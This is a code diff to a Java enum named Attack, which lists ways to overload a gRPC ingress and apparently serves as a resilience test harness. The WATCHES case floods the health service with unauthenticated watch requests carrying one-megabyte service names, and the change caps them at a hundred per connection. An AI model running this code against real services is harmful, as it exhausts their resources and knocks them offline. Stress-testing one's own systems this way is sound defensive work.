@@ -18,11 +18,15 @@ import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.concurrent.Semaphore;
+import java.util.concurrent.TimeUnit;
 
 /** Holds the ways to harm an ingress, each gone on with until its time is over. */
 public enum Attack {
-  /** Has the health service watch 2,000 names of a megabyte, a few at once, without a token. */
-  WATCHES("2,000 health watches, 1 MB names") {
+  /**
+   * Has the health service watch names of a megabyte, without a token: a hundred on a connection,
+   * then on the next, as what is refused stays in the attacker's own buffers until that is closed.
+   */
+  WATCHES("health watches, 1 MB names") {
     @Override
     void strike(Victim victim, Duration time) throws InterruptedException {
       ManagedChannel channel = victim.connect();
@@ -30,13 +34,13 @@ public enum Attack {
         var stub = HealthGrpc.newStub(channel);
         var places = new Semaphore(WATCHES_AT_ONCE);
         String name = "x".repeat(1_000_000);
-        for (int i = 0; i < 2_000; i++) {
+        for (int i = 0; i < WATCHES_OF_A_CONNECTION; i++) {
           places.acquire();
           var request = HealthCheckRequest.newBuilder().setService(name + i).build();
           stub.watch(request, new Ignored<HealthCheckResponse>(places::release));
         }
       } finally {
-        channel.shutdownNow();
+        var _ = channel.shutdownNow().awaitTermination(CLOSING_SECONDS, TimeUnit.SECONDS);
       }
     }
   },
@@ -128,6 +132,8 @@ public enum Attack {
   };
 
   private static final int WATCHES_AT_ONCE = 16;
+  private static final int WATCHES_OF_A_CONNECTION = 100;
+  private static final int CLOSING_SECONDS = 5;
 
   /** Bounds what the attacker holds itself: two seconds of its calls. */
   private static final int RESUMES_AT_ONCE = 10_000;
